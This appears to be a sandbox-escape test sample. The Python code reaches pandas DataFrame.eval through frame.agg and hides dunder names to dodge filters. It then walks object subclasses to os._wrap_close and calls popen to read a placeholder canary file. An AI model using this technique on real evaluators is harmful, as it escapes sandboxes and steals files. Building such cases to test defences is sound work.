# class: subclass_walk
# technique: object.__subclasses__() in expression text, then wrap_close to a process or os (DataFrame.eval reached as (call := frame.agg)('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return (call := frame.agg)("eval", 0, expr, local_dict=names)

u = "_" * 2
classes = ev("@o[0]." + u + "subclasses" + u + "()", o=[object])

cls = [c for c in classes if "wrap_close" in str(c)][0]
g = ev("@c[0]." + u + "init" + u + "." + u + "globals" + u, c=[cls])
df = pd.DataFrame({"stolen": [g["popen"]("cat {{CANARY_FILE}}").read()]})
